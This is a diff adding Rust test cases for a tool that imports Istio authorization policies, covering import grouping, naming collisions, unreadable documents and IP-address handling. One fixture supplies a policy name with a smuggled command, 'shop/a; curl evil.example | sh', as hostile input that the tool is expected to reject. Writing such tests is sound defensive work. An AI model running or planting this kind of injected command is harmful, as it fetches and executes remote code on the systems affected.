@@ -92,6 +92,35 @@ fn policies_of_a_workload_are_imported_together_or_not_at_all() {
             &["bank/c", "istio-system/b"],
             &[1],
         ),
+        // Nobody knows which of the versions the cluster has.
+        (
+            &[
+                ("shop/a", OF_CART),
+                ("shop/a", OF_WEB),
+                ("shop/b", OF_CART),
+                ("shop/c", OF_VERSION),
+                ("bank/a", OF_CART),
+            ],
+            &["bank/a"],
+            &[1, 2, 3, 4],
+        ),
+        (
+            &[
+                ("shop/a", OF_CART),
+                ("shop/a", OF_CART),
+                ("shop/b", OF_CART),
+            ],
+            &["shop/a"],
+            &[],
+        ),
+        (
+            &[
+                ("shop/a", UNSAID),
+                ("shop/a; curl evil.example | sh", OF_WEB),
+            ],
+            &[],
+            &[1, 2],
+        ),
         // What it is for cannot be read.
         (
             &[
@@ -304,7 +333,32 @@ fn names_say_what_things_are_and_overwrite_no_other_object() {
             &[(&*format!("shop/{long}"), OF_CART)],
             &*format!("{long}({})", &long[..63]),
         ),
-        // Rendered objects of `b` would overwrite the original `b-allow`.
+        // Rendered objects would overwrite an original of other workloads, of another action, a large one's parts, or
+        // one that is not carried over.
+        (
+            &[("shop/b", OF_CART), ("shop/b-allow-2", OF_WEB)],
+            "b-2(b),b-allow-2(b-allow-2)",
+        ),
+        (
+            &[
+                ("shop/b", OF_CART),
+                (
+                    "shop/b-allow",
+                    "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{}]}",
+                ),
+            ],
+            "b-2(b,b-allow)",
+        ),
+        (
+            &[
+                ("shop/b", OF_CART),
+                (
+                    "shop/b-deny",
+                    "{selector: {matchLabels: {app: vault}}, rules: 5}",
+                ),
+            ],
+            "b-2(b)",
+        ),
         (
             &[("shop/b", OF_CART), ("shop/b-allow", OF_WEB)],
             "b(b),b-2(b)",
@@ -347,4 +401,94 @@ fn originals_are_deleted_where_no_rendered_object_takes_their_name() {
         .map(|replaced| format!("{}: {}", replaced.namespace, replaced.names.join(" ")))
         .collect();
     assert_eq!(replaced, ["bank: b", "shop: cart", "shop: no-cart"]);
+}
+
+/// A document that cannot be read may be a policy of any workload in the namespace that it mentions.
+#[test]
+fn what_cannot_be_read_counts_for_what_it_mentions() {
+    let policy = |namespace: &str| {
+        format!(
+            "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\n\
+             metadata: {{name: x, namespace: {namespace}}}\nspec: {{rules: []}}\nspec: {{rules: [{{}}]}}\n"
+        )
+    };
+    let strict = "apiVersion: security.istio.io/v1\nkind: PeerAuthentication\n\
+                  metadata: {name: default, namespace: istio-system}\nspec: {mtls: {mode: STRICT}}\n";
+    let mode = "kind: PeerAuthentication\nmetadata: {namespace: shop}\nspec: [\n";
+    for (text, names, is_strict) in [
+        (
+            "kind: Deployment\nspec: [\n",
+            &["bank/b", "shop/a"][..],
+            true,
+        ),
+        (
+            "kind: AuthorizationPolicy\nmetadata: {namespace: {{ .Release.Namespace }}}\n",
+            &["bank/b", "shop/a"],
+            true,
+        ),
+        (&*policy("shop"), &["bank/b"], true),
+        (&*policy("istio-system"), &[], true),
+        ("kind: AuthorizationPolicy\nspec: [\n", &[], true),
+        (mode, &["bank/b", "shop/a"], false),
+    ] {
+        let texts = [
+            MESH,
+            strict,
+            text,
+            &object("shop/a", OF_CART),
+            &object("bank/b", OF_WEB),
+        ];
+        let imported = imported(&texts, &Options::default());
+        assert_eq!(
+            carried(&imported).0,
+            names,
+            "{text}: {}",
+            messages(&imported)
+        );
+        let mesh = serde_json::to_value(&imported.documents.as_ref().unwrap().mesh).unwrap();
+        assert_eq!(
+            mesh["spec"]["mtls"]["mode"] == "Strict",
+            is_strict,
+            "{text}: {mesh}"
+        );
+        assert_eq!(
+            imported.documents.unwrap().replaced.len(),
+            names.len(),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn texts_that_look_like_addresses_are_texts() {
+    let rule = "{selector: {matchLabels: {app: cart}}, action: DENY, rules: [{from: [{source: {notIpBlocks: [10.1.2.3/8]}}], to: [{operation: {ports: [\"80\"]}}], when: [
+        {key: \"request.headers[x-net]\", values: [10.1.2.3/8, \"FE80::1/64\", \"::ffff:10.1.2.3\", 10.1.2.3]}, {key: source.ip, values: [10.1.2.3/8]}]}]}";
+    let imported = import(&[("shop/a", rule)]);
+    let documents = imported.documents.unwrap();
+    let rules = serde_json::to_value(&documents.policies[0].document.spec.rules).unwrap();
+    assert_eq!(
+        rules[0]["when"][0]["values"],
+        serde_json::json!(["10.1.2.3/8", "FE80::1/64", "::ffff:10.1.2.3", "10.1.2.3"])
+    );
+    assert_eq!(
+        rules[0]["when"][1]["values"],
+        serde_json::json!(["10.0.0.0/8"])
+    );
+    assert_eq!(
+        rules[0]["from"][0]["notIpBlocks"],
+        serde_json::json!(["10.0.0.0/8"])
+    );
+}
+
+#[test]
+fn a_dry_run_of_an_authorizer_is_not_imported() {
+    let custom =
+        "{selector: {matchLabels: {app: cart}}, action: CUSTOM, provider: {name: p}, rules: [{}]}";
+    let text = object("shop/a", custom).replace(
+        "namespace: shop}",
+        "namespace: shop, annotations: {istio.io/dry-run: \"true\"}}",
+    );
+    let imported = imported(&[MESH, &text], &Options::default());
+    assert!(messages(&imported).contains("in spite of which Istio asks its authorizer"));
+    assert_eq!(imported.documents.unwrap().policies.len(), 0);
 }
